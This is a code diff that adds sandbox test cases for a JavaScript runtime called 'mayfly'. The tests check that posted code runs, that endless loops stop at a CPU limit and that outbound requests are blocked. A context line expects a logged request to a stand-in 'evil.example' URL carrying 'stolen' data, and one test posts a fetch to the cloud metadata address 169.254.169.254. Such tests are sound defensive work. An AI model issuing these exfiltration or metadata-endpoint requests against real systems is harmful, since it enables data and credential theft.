@@ -69,4 +69,30 @@ export const examples = [
       log: [/acme: GET https:\/\/shop\.example\/orders\/7/, /acme: GET https:\/\/evil\.example\/\?stolen=42/],
     },
   ]),
+  {
+    runtimes: ["mayfly"], // no other has mayfly:sandbox
+    ...example("one-call", [
+      {
+        name: "one call runs a function",
+        request: "/",
+        times: 20,
+        expect: { text: '{"result":[3,4,8]}' },
+      },
+      {
+        name: "one call runs what it is sent",
+        request: { method: "POST", path: "/", body: '(words) => words.join("-")' },
+        expect: { text: '{"result":"one-call-suffices"}' },
+      },
+      {
+        name: "one call holds a loop to its limit",
+        request: { method: "POST", path: "/", body: "() => { for (;;); }" },
+        expect: { status: 422, json: { error: "CpuLimitExceeded: Worker exceeded CPU time limit of 50 ms." } },
+      },
+      {
+        name: "one call opens no other origin than it names",
+        request: { method: "POST", path: "/", body: '() => fetch("http://169.254.169.254/")' },
+        expect: { status: 422, text: /EgressDenied/ },
+      },
+    ]),
+  },
 ];
